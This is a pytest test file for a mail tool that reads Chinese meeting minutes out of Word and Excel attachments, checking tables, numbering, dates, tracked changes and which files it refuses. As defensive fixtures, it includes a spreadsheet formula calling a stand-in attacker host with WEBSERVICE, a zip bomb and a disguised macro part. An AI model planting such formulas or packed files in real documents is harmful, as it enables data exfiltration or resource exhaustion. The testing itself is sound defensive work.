"""Minutes sent as Word or Excel files: what mailflow reads out of them, and what it refuses.

Every file is built here with python-docx / openpyxl (no binary fixtures): the draft text must be
what a recorder would have pasted — paragraphs as lines, table rows as TAB-separated cells, dates as
YYYY-MM-DD — and nothing in a file is ever executed or calculated.
"""

from __future__ import annotations

import io
import json
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings, strategies as st

from apphelp import PEOPLE
from mailflow.read import attachments, inbound
from mailflow.cli import main
from mailflow.testing import write_config
from officedocs import docx, mail_with, rezip, with_cached_value, xlsx

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"          # the start of every .doc / .xls (and locked .docx)


def text_of(name: str, data: bytes) -> str:
    reading = attachments.read(name, data)
    assert reading.refused is None, reading.refused
    return reading.text


def refusal(name: str, data: bytes) -> str | None:
    return attachments.read(name, data).refused


# --- Word ---------------------------------------------------------------------------------------------
def test_a_word_draft_in_paragraphs_reads_line_by_line_with_word_numbers_written_out():
    data = docx([
        ("title", "渠道合作推进会 会议纪要"),
        ("p", "时间：2026年11月19日 14:00-16:00\t地点：3楼会议室"),
        ("h", "三、决议结果"),
        ("num", "渠道返点按季度结算"),
        ("num", "新渠道准入由销售部审核"),
        ("h", "四、行动项"),
        ("bullet", "渠道报价单，负责人：张伟，11月27日前完成"),
        ("bullet", "合作协议初稿，负责人：周强，12月1日前完成"),
    ])
    assert text_of("纪要.docx", data).splitlines() == [
        "渠道合作推进会 会议纪要",
        "时间：2026年11月19日 14:00-16:00 地点：3楼会议室",      # a TAB that only aligns text is a space
        "三、决议结果",
        "1. 渠道返点按季度结算",                                  # Word's automatic numbers are not in the
        "2. 新渠道准入由销售部审核",                              # paragraph text; they are written out
        "四、行动项",
        "- 渠道报价单，负责人：张伟，11月27日前完成",
        "- 合作协议初稿，负责人：周强，12月1日前完成",
    ]


def test_a_word_table_becomes_tab_separated_rows_under_its_title_row():
    data = docx([
        ("h", "行动项"),
        ("merged", [["行动项跟进表（2026-11-19）"],
                    ["序号", "事项", "负责人", "协同人", "完成时间", "交付物"],
                    ["1", "活动预算清单", "周强", "王磊", "11月30日", "预算表\n（经财务部审核）"],
                    ["2", "设计稿", "刘洋", "", "11月26日", ""]]),
        ("p", "（本纪要为草稿）"),
    ])
    assert text_of("纪要.docx", data).splitlines() == [
        "行动项",
        "",
        "行动项跟进表（2026-11-19）",                             # the merged title row: one plain line
        "序号\t事项\t负责人\t协同人\t完成时间\t交付物",
        "1\t活动预算清单\t周强\t王磊\t11月30日\t预算表 （经财务部审核）",   # a cell of two paragraphs: one cell
        "2\t设计稿\t刘洋\t\t11月26日\t",                          # empty cells keep the row as wide as the header
        "",
        "（本纪要为草稿）",
    ]


def test_a_draft_with_tracked_changes_reads_as_if_they_were_accepted():
    """The host corrected the recorder's draft in Word with 修订 on: inserted text counts, deleted
    text does not, and a hyperlinked deliverable keeps its words."""
    from docx import Document
    from docx.oxml import parse_xml
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    doc = Document(io.BytesIO(docx([("h", "四、行动项")])))
    doc.element.body.insert(-1, parse_xml(
        f'<w:p {w}><w:r><w:t xml:space="preserve">渠道报价单，负责人：张伟，</w:t></w:r>'
        f'<w:del w:id="1" w:author="王磊" w:date="2026-11-20T09:00:00Z"><w:r><w:delText>11月27日</w:delText></w:r></w:del>'
        f'<w:ins w:id="2" w:author="王磊" w:date="2026-11-20T09:00:00Z"><w:r><w:t>12月4日</w:t></w:r></w:ins>'
        f'<w:r><w:t>前完成，交付：</w:t></w:r><w:hyperlink><w:r><w:t>报价单V1</w:t></w:r></w:hyperlink></w:p>'))
    out = io.BytesIO()
    doc.save(out)
    assert text_of("纪要.docx", out.getvalue()).splitlines() == [
        "四、行动项", "渠道报价单，负责人：张伟，12月4日前完成，交付：报价单V1"]


def test_a_two_column_word_table_of_meeting_facts_reads_as_label_and_value():
    data = docx([("table", [["会议时间", "2026年11月19日"], ["主持人", "王磊"], ["记录人", "孙丽"]])])
    assert text_of("纪要.docx", data).splitlines() == ["会议时间：2026年11月19日", "主持人：王磊", "记录人：孙丽"]


def test_a_traditional_chinese_word_draft_keeps_its_script():
    data = docx([("h", "二、待辦事項"),
                 ("table", [["項次", "待辦事項", "負責人", "協辦", "期限"],
                            ["1", "門市系統升級", "陳靜", "張偉", "12月4日"]])])
    assert "1\t門市系統升級\t陳靜\t張偉\t12月4日" in text_of("會議紀錄.docx", data).splitlines()


# --- Excel --------------------------------------------------------------------------------------------
def test_an_excel_tracker_is_read_from_the_first_sheet_that_names_owners_with_dates_written_out():
    data = xlsx([
        ("会议信息", [["项目", "内容"], ["会议名称", "渠道合作推进会"], ["记录人", "孙丽"]]),
        ("签到表", [["姓名", "部门", "签到时间"], ["王磊", "技术部", datetime(2026, 11, 19, 13, 55)]]),
        ("行动项跟进表", [
            ["渠道合作推进会 行动项跟进表", None, None, None],
            ["序号", "事项", "负责人", "完成时间"],
            [1, "渠道报价单", "张伟", date(2026, 11, 27)],
            [2.0, "合作协议初稿", "周强", datetime(2026, 12, 1)],
            [3, "渠道培训", "刘洋", "下周三"],
            [4, "返点核算", "李娜", "12/4"],
        ]),
        ("第二张跟进表", [["事项", "负责人", "完成时间"], ["不应读到", "王磊", date(2026, 12, 9)]]),
        ("会议决议", [["序号", "会议决议"], [1, "渠道返点按季度结算"], [2, "新渠道准入由销售部审核"]]),
    ])
    assert text_of("跟进表.xlsx", data).splitlines() == [
        "项目：内容", "会议名称：渠道合作推进会", "记录人：孙丽",   # a two-column sheet of facts
        "",                                                        # the sign-in sheet names no owner: skipped
        "行动项跟进表",
        "渠道合作推进会 行动项跟进表",                              # the title row above the header
        "序号\t事项\t负责人\t完成时间",
        "1\t渠道报价单\t张伟\t2026-11-27",                         # a real date cell
        "2\t合作协议初稿\t周强\t2026-12-01",                       # a datetime at midnight, 2.0 as 2
        "3\t渠道培训\t刘洋\t下周三",                               # text dates stay text for the parser
        "4\t返点核算\t李娜\t12/4",
        "",                                                        # only the FIRST task sheet is read
        "会议决议",
        "1. 渠道返点按季度结算",
        "2. 新渠道准入由销售部审核",
    ]


def test_a_formula_is_read_as_the_value_excel_saved_or_as_its_text_and_never_calculated():
    serial = (date(2026, 12, 4) - date(1899, 12, 30)).days            # how Excel stores 2026-12-04
    data = xlsx([("跟进表", [["事项", "负责人", "完成时间", "备注"],
                            ["渠道报价单", "张伟", ("=DATE(2026,12,4)", "yyyy/m/d"), "=1+1"],
                            ["合作协议", "=B2", "12月1日", '=WEBSERVICE("http://attacker.example/x")']])])
    saved = with_cached_value(data, "DATE(2026,12,4)", str(serial))
    lines = text_of("跟进表.xlsx", saved).splitlines()
    assert "渠道报价单\t张伟\t2026-12-04\t=1+1" in lines                # cached value; =1+1 never becomes 2
    assert '合作协议\t=B2\t12月1日\t=WEBSERVICE("http://attacker.example/x")' in lines
    assert "渠道报价单\t张伟\t=DATE(2026,12,4)\t=1+1" in text_of("跟进表.xlsx", data).splitlines()  # never saved by Excel


def test_a_workbook_without_a_task_sheet_is_answered_not_guessed():
    data = xlsx([("Sheet1", [["姓名", "部门", "签到时间"], ["王磊", "技术部", "13:55"]])])
    assert refusal("签到表.xlsx", data) == "no_sheet"


# --- what is refused ----------------------------------------------------------------------------------
def small_docx() -> bytes:
    return docx([("h", "四、行动项"), ("p", "渠道报价单，负责人：张伟，11月27日前完成")])


def test_files_over_the_size_limit_are_refused_before_they_are_opened():
    big = small_docx() + b"\0" * (attachments.MAX_BYTES + 1)
    assert refusal("纪要.docx", big) == "too_large"


def test_a_zip_bomb_is_refused_by_its_packing_ratio_or_its_number_of_parts():
    bomb = rezip(small_docx(), extra={"word/media/image1.bin": b"\0" * (4 * 1024 * 1024)})   # packs 1000:1
    assert len(bomb) < 100_000 and refusal("纪要.docx", bomb) == "unpacked"
    crowd = rezip(small_docx(), extra={f"customXml/extra{i}.xml": b"<a/>" for i in range(attachments.MAX_PARTS)})
    assert refusal("纪要.docx", crowd) == "unpacked"


def test_an_xml_part_too_large_to_hold_in_memory_is_refused(monkeypatch):
    monkeypatch.setattr(attachments, "MAX_XML", 2000)                 # a real limit is 16 MB
    long_draft = docx([("p", f"第{i}项：渠道报价单，负责人：张伟，11月27日前完成") for i in range(40)])
    assert refusal("纪要.docx", long_draft) == "unpacked"


def test_macro_files_are_never_opened_whatever_their_name():
    assert refusal("纪要.docm", small_docx()) == "macro"
    assert refusal("跟进表.xlsm", xlsx([("S", [["事项", "负责人"]])])) == "macro"
    disguised = rezip(small_docx(), extra={"word/vbaProject.bin": b"Attribute VB_Name = \"x\""})
    assert refusal("纪要.docx", disguised) == "macro"


def test_old_word_pdf_locked_and_broken_files_get_a_reason():
    assert refusal("纪要.doc", OLE + b"\0" * 512) == "format"
    assert refusal("纪要.pdf", b"%PDF-1.7\n...") == "format"
    assert refusal("纪要.wps", b"anything") == "format"
    assert refusal("纪要.docx", OLE + b"\0" * 512) == "format"        # a password-protected .docx is OLE inside
    assert refusal("纪要.docx", b"PK\x03\x04 not really a zip") == "damaged"
    assert refusal("纪要.xlsx", small_docx()) == "damaged"            # a Word file named .xlsx


def test_outlook_rich_text_winmail_dat_is_named_for_what_it_is():
    assert attachments.kind_of("winmail.dat", "application/ms-tnef") == "tnef"
    assert refusal("winmail.dat", b"\x78\x9f\x3e\x22") == "tnef"


def test_pictures_and_calendar_files_are_not_drafts():
    assert attachments.kind_of("image001.png", "image/png") == "other"
    assert attachments.kind_of("", "image/jpeg") == "other"
    assert attachments.kind_of("", "application/pdf") == "document"
    assert attachments.kind_of("纪要.DOCX") == "docx"


def test_a_mail_keeps_its_attachments_but_reads_only_word_and_excel_as_minutes():
    raw = mail_with("sunli@corp.example", "会议纪要", "纪要见附件，请审阅。",
                    ("纪要.docx", small_docx()), ("logo.png", b"\x89PNG\r\n"), ("旧纪要.pdf", b"%PDF-1.4"))
    msg = inbound.parse(raw)
    assert [a[0] for a in msg.attachments] == ["纪要.docx", "logo.png", "旧纪要.pdf"]
    assert [f[0] for f in msg.files] == ["纪要.docx", "logo.png", "旧纪要.pdf"]   # small: forwardable
    readings = attachments.read_all(msg.attachments, msg.files)
    assert [(r.name, r.refused) for r in readings] == [("纪要.docx", None), ("旧纪要.pdf", "format")]
    assert "渠道报价单，负责人：张伟，11月27日前完成" in readings[0].text


# --- `mailflow minutes parse` -----------------------------------------------------------------------------
KV_DRAFT = [("title", "Q4营销活动筹备会 会议纪要"), ("h", "三、决议结果"), ("p", "1. 上线时间暂定为12月1日"),
            ("h", "四、行动项"),
            ("p", "任务名称：活动预算清单"), ("p", "负责人：周强"), ("p", "计划完成时间：11月30日"),
            ("p", "任务名称：设计稿"), ("p", "负责人：刘洋"), ("p", "截止时间：11月26日")]


@pytest.fixture
def cli(tmp_path):
    (tmp_path / "people.yaml").write_text(PEOPLE, encoding="utf-8")
    cfg = write_config(tmp_path, org={"people": "./people.yaml"})

    def run(path: Path, *args: str):
        return CliRunner().invoke(main, ["--config", str(cfg), "minutes", "parse",
                                         str(path), "--now", "2026-11-20T10:00", *args])
    return run


def test_minutes_parse_reads_a_bare_word_file(cli, tmp_path):
    path = tmp_path / "纪要.docx"
    path.write_bytes(docx(KV_DRAFT))
    result = cli(path, "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["decisions"] == ["上线时间暂定为12月1日"]
    assert [(a["title"], a["owner"], a["due"]) for a in data["action_items"]] == [
        ("活动预算清单", "zhouqiang@corp.example", "2026-11-30"), ("设计稿", "liuyang@corp.example", "2026-11-26")]
    assert data["problems"] == [] and data["attachments"] == [{"name": "纪要.docx", "read": True, "refused": None}]


def test_minutes_parse_reads_an_eml_with_an_excel_attachment_and_shows_the_text(cli, tmp_path):
    sheet = xlsx([("行动项", [["事项", "负责人", "完成时间"], ["活动预算清单", "周强", date(2026, 11, 30)]])])
    path = tmp_path / "draft.eml"
    path.write_bytes(mail_with("sunli@corp.example", "会议纪要", "纪要见附件", ("跟进表.xlsx", sheet)))
    result = cli(path, "--text")
    assert result.exit_code == 0 and "活动预算清单\t周强\t2026-11-30" in result.output
    result = cli(path)
    assert result.exit_code == 0 and "attachment 跟进表.xlsx: read" in result.output


@pytest.mark.parametrize("name, data", [("纪要.pdf", b"%PDF-1.7"), ("纪要.doc", OLE + b"\0" * 64)])
def test_minutes_parse_says_why_a_pdf_or_doc_is_not_read(cli, tmp_path, name, data):
    path = tmp_path / name
    path.write_bytes(data)
    result = cli(path, "--json")
    assert result.exit_code == 1
    first = json.loads(result.stdout.splitlines()[0])
    assert first["action_items"] == [] and first["attachments"][0]["refused"] == "format"
    assert ".docx" in result.stderr and "paste" in result.stderr


def test_minutes_parse_reads_a_traditional_chinese_word_table_owners_through_the_directory(cli, tmp_path):
    path = tmp_path / "會議紀錄.docx"
    path.write_bytes(docx([("title", "門市推進會議 會議紀錄"), ("h", "一、決議事項"), ("p", "1. 門市系統於12月底前全面升級。"),
                           ("h", "二、待辦事項"),
                           ("table", [["項次", "待辦事項", "負責人", "協辦", "期限", "產出"],
                                      ["1", "門市系統升級", "陳靜", "張偉", "12月4日", "升級報告"],
                                      ["2", "促銷檔期規劃", "劉洋", "", "12月中旬", "檔期表"]])]))
    data = json.loads(cli(path, "--json").output)
    assert [(a["title"], a["owner"], a["collaborators"], a["due"]) for a in data["action_items"]] == [
        ("門市系統升級", "chenjing@corp.example", ["zhangwei@corp.example"], "2026-12-04"),
        ("促銷檔期規劃", "liuyang@corp.example", [], None)]
    assert [(p["item"], p["kind"]) for p in data["problems"]] == [(2, "vague_due")]


def test_minutes_parse_reads_an_excel_tracker_without_any_heading_by_its_header_row(cli, tmp_path):
    path = tmp_path / "tracker.xlsx"
    path.write_bytes(xlsx([("Sheet1", [["序号", "事项", "负责人", "协同人", "完成时间"],
                                       [1, "活动预算清单", "周强", "王磊", datetime(2026, 11, 30)],
                                       [2, "设计稿", "刘洋", None, "下周三"]])]))
    data = json.loads(cli(path, "--json").output)
    assert [(a["title"], a["owner"], a["collaborators"], a["due"]) for a in data["action_items"]] == [
        ("活动预算清单", "zhouqiang@corp.example", ["wanglei@corp.example"], "2026-11-30"),
        ("设计稿", "liuyang@corp.example", [], "2026-11-25")]          # 下周三 from Fri 2026-11-20
    assert data["problems"] == []


def test_an_excel_tracker_fills_merged_owner_cells_and_skips_hidden_sheets_and_blank_numbered_rows():
    import openpyxl
    wb = openpyxl.Workbook()
    hidden = wb.active
    hidden.title = "模板"
    hidden.append(["事项", "负责人", "完成时间"])
    hidden.append(["（示例）填写事项", "张三", "12月1日"])
    hidden.sheet_state = "hidden"
    ws = wb.create_sheet("跟进表")
    for row in [["序号", "事项", "跟进人", "完成时间"], [1, "渠道报价单", "张伟", "11月27日"],
                [2, "合作协议初稿", None, "12月1日"], [3, "返点核算", None, "12月4日"], [4], [5], [6]]:
        ws.append(row)
    ws.merge_cells("C2:C4")                                           # 张伟 owns three tasks
    out = io.BytesIO()
    wb.save(out)
    assert text_of("跟进表.xlsx", out.getvalue()).splitlines() == [
        "跟进表",
        "序号\t事项\t跟进人\t完成时间",
        "1\t渠道报价单\t张伟\t11月27日",
        "2\t合作协议初稿\t张伟\t12月1日",
        "3\t返点核算\t张伟\t12月4日",
    ]


def test_a_word_outline_keeps_its_chinese_numbers():
    """一、 headings, （一） sub-items and ① items, as Word numbers them."""
    from docx import Document
    from docx.oxml import parse_xml
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    doc = Document(io.BytesIO(docx([("num", "占位")])))            # gives the file a numbering part
    numbering = doc.part.numbering_part.element
    numbering.append(parse_xml(
        f'<w:abstractNum {w} w:abstractNumId="90">'
        '<w:lvl w:ilvl="0"><w:start w:val="3"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1、"/></w:lvl>'
        '<w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="（%2）"/></w:lvl>'
        '<w:lvl w:ilvl="2"><w:start w:val="1"/><w:numFmt w:val="decimalEnclosedCircle"/><w:lvlText w:val="%3"/></w:lvl>'
        '</w:abstractNum>'))
    numbering.append(parse_xml(f'<w:num {w} w:numId="90"><w:abstractNumId w:val="90"/></w:num>'))
    body = doc.element.body
    for p in list(body.iterchildren(f"{{{w[9:-1]}}}p")):
        body.remove(p)
    for level, text in [(0, "会议决议"), (1, "渠道返点按季度结算"), (0, "行动项"), (1, "渠道"), (2, "渠道报价单，负责人：张伟"),
                        (2, "合作协议，负责人：周强"), (1, "培训"), (2, "渠道培训，负责人：刘洋")]:
        body.insert(-1, parse_xml(f'<w:p {w}><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="90"/>'
                                  f'</w:numPr></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>'))
    out = io.BytesIO()
    doc.save(out)
    assert text_of("纪要.docx", out.getvalue()).splitlines() == [
        "三、会议决议", "  （一）渠道返点按季度结算", "四、行动项", "  （一）渠道", "    ① 渠道报价单，负责人：张伟",
        "    ② 合作协议，负责人：周强", "  （二）培训", "    ① 渠道培训，负责人：刘洋"]


def test_a_word_minutes_form_reads_as_labelled_facts_with_the_task_table_inside_it():
    """The 会议纪要 form many offices use: one table of label | value cells, the decisions as several
    paragraphs in one cell, and the action items as a header row and rows further down."""
    data = docx([("merged", [
        ["会议主题", "渠道合作推进会", "会议时间", "2026年11月19日 14:00"],
        ["主持人", "王磊", "记录人", "孙丽"],
        ["决议事项", "1. 渠道返点按季度结算\n2. 新渠道准入由销售部审核", "", ""],
        ["行动项"],
        ["序号", "事项", "负责人", "完成时间"],
        ["1", "渠道报价单", "张伟", "11月27日"],
        ["2", "合作协议初稿", "周强", "12月1日"],
        ["备注：本纪要经主持人审核后发出。"],
    ])])
    assert text_of("纪要表.docx", data).splitlines() == [
        "会议主题：渠道合作推进会", "会议时间：2026年11月19日 14:00",
        "主持人：王磊", "记录人：孙丽",
        "决议事项：", "1. 渠道返点按季度结算", "2. 新渠道准入由销售部审核",
        "行动项",
        "序号\t事项\t负责人\t完成时间",
        "1\t渠道报价单\t张伟\t11月27日",
        "2\t合作协议初稿\t周强\t12月1日",
        "备注：本纪要经主持人审核后发出。",                          # a row across the table ends it
    ]


def test_a_word_table_of_decisions_reads_as_numbered_decisions():
    data = docx([("table", [["序号", "决议内容"], ["1", "渠道返点按季度结算"], ["2", "新渠道准入由销售部审核"]])])
    assert text_of("纪要.docx", data).splitlines() == ["决议内容", "1. 渠道返点按季度结算", "2. 新渠道准入由销售部审核"]


def test_minutes_parse_reads_a_word_form_without_taking_its_discussion_for_tasks(cli, tmp_path):
    path = tmp_path / "纪要表.docx"
    path.write_bytes(docx([("title", "会议纪要"), ("merged", [
        ["会议主题", "渠道合作推进会", "会议时间", "2026年11月19日 14:00"],
        ["主持人", "王磊", "记录人", "孙丽"],
        ["会议内容", "张伟汇报了Q3渠道数据，王芳提出12月初前要完成新渠道评估。", "", ""],
        ["决议事项", "1. 渠道返点按季度结算\n2. 新渠道准入由销售部审核", "", ""],
        ["行动项"],
        ["序号", "事项", "负责人", "完成时间"],
        ["1", "渠道报价单", "张伟", "11月27日"],
        ["2", "合作协议初稿", "周强", "12月1日"],
    ])]))
    data = json.loads(cli(path, "--json").output)
    assert data["decisions"] == ["渠道返点按季度结算", "新渠道准入由销售部审核"]
    assert [(a["title"], a["owner"], a["due"]) for a in data["action_items"]] == [
        ("渠道报价单", "zhangwei@corp.example", "2026-11-27"), ("合作协议初稿", "zhouqiang@corp.example", "2026-12-01")]


# --- whatever the bytes -----------------------------------------------------------------------------------
_GOOD = {"纪要.docx": small_docx(), "跟进表.xlsx": xlsx([("S", [["事项", "负责人"], ["报价单", "张伟"]])])}


@settings(max_examples=60, deadline=None)
@given(name=st.sampled_from(sorted(_GOOD)), at=st.integers(min_value=0), junk=st.binary(min_size=1, max_size=64),
       cut=st.booleans())
def test_a_damaged_file_is_refused_or_read_and_never_raises(name, at, junk, cut):
    good = _GOOD[name]
    at %= len(good)
    data = good[:at] if cut else good[:at] + junk + good[at + len(junk):]
    reading = attachments.read(name, data)
    assert reading.refused in (None, "damaged", "unpacked", "no_sheet", "format")
    assert reading.refused is not None or isinstance(reading.text, str)
